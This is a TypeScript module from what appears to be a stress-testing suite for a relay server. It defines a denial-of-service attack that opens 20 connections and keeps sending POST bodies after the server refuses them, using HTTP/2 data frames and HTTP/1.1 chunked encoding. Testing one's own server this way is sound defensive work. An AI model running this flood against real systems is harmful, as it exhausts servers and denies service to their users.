import { setTimeout as sleep } from "node:timers/promises";
import type { Attack, Tally, Target } from "../../attack.ts";
import { connectTls, flood, frame, frameType, RawHttp2, requestFrame } from "../../clients/raw-http2.ts";

const connections = 20;
const piece = Buffer.alloc(16_000, "x");
const paths = ["/v1/register", "/v1/mailbox/x", "/nothing"];

/** Bodies that continue after the relay has refused them, over HTTP/2 and HTTP/1.1. */
export const tcpEndlessBodies: Attack = {
  name: "endless bodies, over TCP",
  unit: "bytes",
  async run(target, signal, tally) {
    await Promise.all(
      Array.from({ length: connections }, async (_, i) => {
        const path = paths[i % paths.length]!;
        while (!signal.aborted) {
          await (i % 2 === 0 ? floodHttp2 : floodHttp1)(target, path, signal, tally);
          await sleep(20);
        }
      }),
    );
  },
};

async function floodHttp2(target: Target, path: string, signal: AbortSignal, tally: Tally): Promise<void> {
  const client = await RawHttp2.open(target);
  const streams = Array.from({ length: 20 }, (_, i) => 2 * i + 1);
  await client.send(...streams.map((stream) => requestFrame(stream, "POST", path)));
  // Stays within the connection's window each time.
  const body = piece.subarray(0, 3000);
  for (; !client.isClosed && !signal.aborted; tally(streams.length * body.length))
    await client.send(...streams.map((stream) => frame(frameType.data, 0, stream, body)));
  client.close();
}

async function floodHttp1(target: Target, path: string, signal: AbortSignal, tally: Tally): Promise<void> {
  const socket = await connectTls(target, "http/1.1");
  socket.resume().write(`POST ${path} HTTP/1.1\r\nhost: localhost\r\ntransfer-encoding: chunked\r\n\r\n`);
  const chunk = Buffer.concat([Buffer.from(`${piece.length.toString(16)}\r\n`), piece, Buffer.from("\r\n")]);
  for (; !socket.destroyed && !signal.aborted; tally(piece.length)) await flood(socket, chunk);
  socket.destroy();
}
